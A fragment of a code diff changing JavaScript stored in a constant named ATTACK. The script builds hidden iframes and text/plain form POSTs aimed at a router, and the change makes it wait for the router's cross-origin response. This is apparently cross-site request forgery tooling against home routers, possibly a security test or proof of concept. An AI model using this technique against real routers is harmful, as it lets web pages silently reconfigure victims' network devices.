@@ -45,7 +45,9 @@ ATTACK = """async ({base, targets}) => {
     await new Promise((resolve) => {
       const frame = document.createElement("iframe");
       frame.name = "sink-" + name;
-      frame.onload = resolve;
+      // the first load may be the empty frame's own (about:blank, same origin: its document is readable); the
+      // router's answer is on the router's origin, whose document the page cannot read
+      frame.onload = () => { if (frame.contentDocument === null) resolve(); };
       document.body.append(frame);
       const form = document.createElement("form");
       Object.assign(form, {method: "POST", action: url, target: frame.name, enctype: "text/plain"});
